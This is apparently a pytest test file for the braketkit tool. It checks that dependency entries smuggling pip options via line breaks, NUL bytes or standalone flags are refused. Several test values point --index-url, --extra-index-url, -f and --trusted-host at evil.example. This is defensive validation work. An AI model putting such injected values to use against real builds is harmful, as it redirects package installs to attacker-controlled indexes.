"""``dependencies``: a list's entries are PEP 508 requirements, one each; a requirements file keeps pip's syntax, and
the options in it that change where pip finds packages are shown in the plan.

Each refusal runs with credentials and every AWS endpoint pointed at a loopback tripwire: nothing may reach it.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import tarfile

import pytest

from braketkit.cli.render import plan_document, plan_text
from braketkit.pipeline import plan_target
from braketkit.target import load_reference

from .bad_inputs import GOOD, TRAIN
from .conftest import Project, Tripwire, run_cli

PLAN = ("plan", "train.py:train")
ALLOWED = ("an entry is one requirement on one line, as PEP 508 writes it (such as 'numpy>=1.26'); pip's options "
           "(--index-url, --extra-index-url, --find-links, --trusted-host) go in a requirements file named by "
           "dependencies, whose plan shows them")

# (id, how it is given: pyproject / env / --set, the value, the message's origin and text)
REFUSED = [
    ("pip-option-after-a-line-break", "pyproject", '["numpy\\n--index-url https://evil.example/simple"]',
     "pyproject.toml:5: dependencies: entry 1, 'numpy\\n--index-url https://evil.example/simple', holds a line "
     f"break; {ALLOWED}"),
    ("nul-byte", "pyproject", '["scipy\\u0000x"]',
     f"pyproject.toml:5: dependencies: entry 1, 'scipy\\x00x', holds a control character ('\\x00'); {ALLOWED}"),
    ("pip-option-alone", "env", '["numpy", "--extra-index-url=https://evil.example/simple"]',
     "env BRAKETKIT_DEPENDENCIES: dependencies: entry 2, '--extra-index-url=https://evil.example/simple', is a pip "
     f"option, not a requirement; {ALLOWED}"),
    ("short-pip-option", "--set", '["-ihttps://evil.example/simple"]',
     "--set dependencies: dependencies: entry 1, '-ihttps://evil.example/simple', is a pip option, not a "
     f"requirement; {ALLOWED}"),
    ("two-in-one", "--set", '["numpy scipy"]',
     "--set dependencies: dependencies: entry 1, 'numpy scipy', holds several requirements ('numpy', 'scipy'); "
     "give each its own entry"),
    ("per-requirement-option", "pyproject", '["numpy==1.26.4 --hash=sha256:abc"]',
     "pyproject.toml:5: dependencies: entry 1, 'numpy==1.26.4 --hash=sha256:abc', is not a requirement: <packaging>; "
     f"{ALLOWED}"),
    ("empty", "pyproject", '["numpy", ""]',
     f"pyproject.toml:5: dependencies: entry 2, '', is not a requirement: <packaging>; {ALLOWED}"),
    ("a-path", "pyproject", '["./wheels/mine.whl"]',
     f"pyproject.toml:5: dependencies: entry 1, './wheels/mine.whl', is not a requirement: <packaging>; {ALLOWED}"),
]


@pytest.mark.parametrize(("how", "value", "message"), [case[1:] for case in REFUSED], ids=[c[0] for c in REFUSED])
def test_an_entry_that_is_not_one_requirement_is_refused(project: Project, tripwire: Tripwire,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str], how: str, value: str,
                                                         message: str) -> None:
    project.write("train.py", TRAIN)
    project.write("pyproject.toml", GOOD + (f"dependencies = {value}\n" if how == "pyproject" else ""))
    argv = [*PLAN, "--set", f"dependencies={value}"] if how == "--set" else list(PLAN)
    if how == "env":
        monkeypatch.setenv("BRAKETKIT_DEPENDENCIES", value)
    code, out, err = run_cli(capsys, *argv)
    assert (code, out) == (2, "")
    # packaging's own words for what it expected where (the first line of its error) stand at <packaging>
    expected = re.escape(f"error: {message}\n").replace(re.escape("<packaging>"), "Expected [^;\n]+")
    assert re.fullmatch(expected, err), err
    assert tripwire.requests == []


def test_every_bad_entry_is_named_at_once(project: Project, tripwire: Tripwire,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    """The issue's own injection: neither entry reaches a requirements.txt, and no job is planned."""
    project.write("train.py", TRAIN)
    project.write("pyproject.toml", GOOD + 'dependencies = ["numpy\\n--index-url https://evil.example/simple", '
                                           '"scipy\\u0000x"]\n')
    code, out, err = run_cli(capsys, "run", "train.py:train")
    assert code == 2 and out == ""
    assert err.splitlines()[:3] == [
        "error: 2 problems:",
        "  - pyproject.toml:5: dependencies: entry 1, 'numpy\\n--index-url https://evil.example/simple', holds a "
        f"line break; {ALLOWED}",
        f"  - pyproject.toml:5: dependencies: entry 2, 'scipy\\x00x', holds a control character ('\\x00'); {ALLOWED}"]
    assert tripwire.requests == []


def test_the_decorator_keyword_is_checked_too(project: Project, tripwire: Tripwire,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    project.write("pyproject.toml", GOOD)
    project.write("train.py", "from braketkit import hybrid_job\n\n"
                              "@hybrid_job(dependencies=['numpy\\r\\n-f https://evil.example/wheels'])\n"
                              "def train() -> None:\n    pass\n")
    code, out, err = run_cli(capsys, *PLAN)
    assert (code, out) == (2, "")
    assert err == ("error: @hybrid_job in train.py: dependencies: entry 1, 'numpy\\r\\n-f "
                   f"https://evil.example/wheels', holds a line break; {ALLOWED}\n")
    assert tripwire.requests == []


def test_the_sdk_keyword_is_checked_too(project: Project, tripwire: Tripwire) -> None:
    project.write("pyproject.toml", GOOD)
    project.write("jobs.py", "from braketkit.sdk import hybrid_job\n\n\n"
                             "@hybrid_job(device='sv1', dependencies=['numpy', '--trusted-host evil.example'])\n"
                             "def train():\n    pass\n\n\ntrain()\n")
    done = subprocess.run([sys.executable, "jobs.py"], cwd=project.root, capture_output=True, text=True,
                          env=dict(os.environ), check=False, timeout=120)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == ("error: dependencies (SDK keyword) of @hybrid_job in jobs.py:4: dependencies: entry 2, "
                           f"'--trusted-host evil.example', is a pip option, not a requirement; {ALLOWED}\n")
    assert tripwire.requests == []


def _shipped(plan_path: str) -> dict[str, bytes]:
    with tarfile.open(plan_path, "r:gz") as archive:
        return {member.name: archive.extractfile(member).read()  # type: ignore[union-attr]
                for member in archive.getmembers() if member.isfile()}


def test_requirements_written_as_pep_508_ship_as_written(project: Project, tripwire: Tripwire) -> None:
    listed = ["numpy>=1.26", "qiskit[visualization]==1.2.4; python_version >= '3.10'",
              "mine @ https://example.org/mine-1.0-py3-none-any.whl", "Scipy ~= 1.13"]
    project.write("pyproject.toml", GOOD + f"dependencies = {json.dumps(listed)}\n")
    project.write("train.py", TRAIN)
    plan = plan_target(load_reference("train.py:train"), offline=True)
    assert _shipped(str(plan.archive.path))["requirements.txt"] == "".join(f"{line}\n" for line in listed).encode()
    assert plan_document(plan)["package_sources"] == []
    assert "pip options" not in plan_text(plan)
    assert tripwire.requests == []


def test_a_requirements_file_keeps_pips_syntax_and_the_plan_shows_where_packages_come_from(
        project: Project, tripwire: Tripwire) -> None:
    """Options that send pip elsewhere are shown, in the file the plan ships and in the files it includes (-r, -c)
    or that the container installs as well (every requirements.txt of the tree); a file not shipped is not read."""
    project.write("pyproject.toml", GOOD + 'dependencies = "requirements-job.txt"\nexclude = ["private.txt"]\n')
    project.write("train.py", TRAIN)
    project.write("requirements-job.txt", "# CPU wheels\n"
                                          "--extra-index-url https://download.pytorch.org/whl/cpu\n"
                                          "torch==2.4.0  # pinned\n"
                                          "-r base.txt\n"
                                          "--constraint=private.txt\n"
                                          "numpy \\\n"
                                          "  --hash=sha256:0123\n")
    project.write("base.txt", "-i https://mirror.example/simple\n--trusted-host mirror.example\nscipy\n-r base.txt\n")
    project.write("private.txt", "--index-url https://not-shipped.example/simple\n")
    project.write("tools/requirements.txt", "--find-links ./wheels\n-fhttps://example.org/more\n--no-index\nlocal\n")
    plan = plan_target(load_reference("train.py:train"), offline=True)
    assert _shipped(str(plan.archive.path))["requirements.txt"] == (project.root / "requirements-job.txt").read_bytes()
    assert plan_document(plan)["package_sources"] == [
        {"file": "requirements-job.txt", "line": 2, "option": "--extra-index-url",
         "value": "https://download.pytorch.org/whl/cpu"},
        {"file": "base.txt", "line": 1, "option": "--index-url", "value": "https://mirror.example/simple"},
        {"file": "base.txt", "line": 2, "option": "--trusted-host", "value": "mirror.example"},
        {"file": "tools/requirements.txt", "line": 1, "option": "--find-links", "value": "./wheels"},
        {"file": "tools/requirements.txt", "line": 2, "option": "--find-links", "value": "https://example.org/more"},
        {"file": "tools/requirements.txt", "line": 3, "option": "--no-index", "value": None},
    ]
    text = plan_text(plan)
    assert ("     pip options  --extra-index-url https://download.pytorch.org/whl/cpu  (requirements-job.txt:2)\n"
            "                  --index-url https://mirror.example/simple  (base.txt:1)\n") in text
    assert "                  --no-index  (tools/requirements.txt:3)\n" in text
    assert "not-shipped" not in text
    assert tripwire.requests == []


def test_a_requirements_file_with_a_line_pip_cannot_read_still_plans(project: Project, tripwire: Tripwire) -> None:
    """pip judges its own file: an unbalanced quote is its to report; the options before it are still shown."""
    project.pyproject('[tool.braketkit]\ndevice = "sv1"\nregion = "us-east-1"\ndependencies = "req.txt"\n')
    project.write("train.py", TRAIN)
    project.write("req.txt", "--index-url https://mirror.example/simple\nnumpy ; python_version < '3\n")
    plan = plan_target(load_reference("train.py:train"), offline=True)
    assert [source["option"] for source in plan_document(plan)["package_sources"]] == ["--index-url"]
    assert io.StringIO(plan_text(plan)).read().count("pip options") == 1
